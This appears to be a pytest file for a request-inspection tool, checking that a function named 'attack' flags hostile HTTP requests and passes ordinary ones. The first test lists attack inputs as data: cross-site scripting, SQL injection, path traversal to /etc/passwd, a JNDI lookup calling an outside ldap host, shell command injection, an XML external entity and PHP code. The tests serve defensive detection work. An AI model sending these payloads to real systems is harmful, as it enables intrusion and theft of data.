"""Text in a request that firewalls look for."""

from __future__ import annotations

import pytest

from statusdoctor.facts.attacks import attack
from statusdoctor.model import Request
from tests.builders import CHROME, get, post

SITE = "https://shop.example"


@pytest.mark.parametrize(
    ("asked", "kind"),
    [
        (get(f"{SITE}/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), "markup"),
        (get(f"{SITE}/items?id=1%27%20OR%20%271%27=%271"), "SQL"),
        (get(f"{SITE}/items?id=1+UNION+ALL+SELECT+1,2"), "SQL"),
        (get(f"{SITE}/download?file=..%2F..%2Fetc%2Fpasswd"), "a path out of the tree"),
        (get(f"{SITE}/download?file=%252e%252e%252f%252e%252e%252fx"), "a path out of the tree"),
        (get(SITE, user_agent="${jndi:ldap://x.example/a}"), "a look-up expression"),
        (get(f"{SITE}/ping?host=127.0.0.1;cat%20/tmp/x"), "a shell command"),
        (post(SITE, "<!DOCTYPE a [ <!ENTITY x SYSTEM \"x\">]><a/>", content_type="application/xml"), "an XML entity"),
        (post(SITE, "t=%3C%3Fphp+echo+1", content_type="application/x-www-form-urlencoded"), "PHP code"),
        (get(f"{SITE}/.git/config"), "a hidden file of the site"),
    ],
)  # fmt: skip
def test_it_is_found_wherever_it_stands(asked: Request, kind: str) -> None:
    found = attack(asked)

    assert found is not None
    assert kind == found.kind


@pytest.mark.parametrize(
    "asked",
    [
        get(f"{SITE}/search?q=red+shoes+or+boots", user_agent=CHROME),
        get(f"{SITE}/articles/select-the-best-shoes-from-our-shop"),
        get(f"{SITE}/on-boarding?onboard=1"),
        get(f"{SITE}/.well-known/openid-configuration"),
        get(f"{SITE}/oauth/authorize?client_id=web&redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcb&response_type=code"),
        post(f"{SITE}/orders", {"note": "it's mine; please update me", "count": 1}),
    ],
)
def test_ordinary_requests_hold_none(asked: Request) -> None:
    assert attack(asked) is None
